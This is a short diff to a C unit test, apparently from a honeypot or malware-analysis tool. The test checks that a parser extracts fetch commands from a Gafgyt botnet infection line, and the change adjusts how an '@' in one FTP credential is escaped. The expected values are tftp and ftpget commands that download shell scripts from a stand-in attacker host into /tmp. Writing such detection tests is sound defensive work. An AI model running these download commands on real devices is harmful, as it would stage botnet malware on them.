@@ -398,7 +398,7 @@ static void test_gafgyt_infection_line(void **state)
 		"tftp tftp://198.51.100.9/tftp2.sh /tmp/tftp2.sh",
 		"tftp tftp://198.51.100.9/t2 /tmp/t2",
 		"ftpget ftp://anonymous:anonymous@198.51.100.9:21/ftp1.sh /tmp/ftp1.sh",
-		"ftpget ftp://anonymous:busybox@@198.51.100.9:21/f1 /tmp/f1",
+		"ftpget ftp://anonymous:busybox%40@198.51.100.9:21/f1 /tmp/f1",
 	};
 	assert_int_equal(t.nfetches, LIB_ARRAY_LEN(want));
 	for (size_t i = 0; i < t.nfetches; i++) {
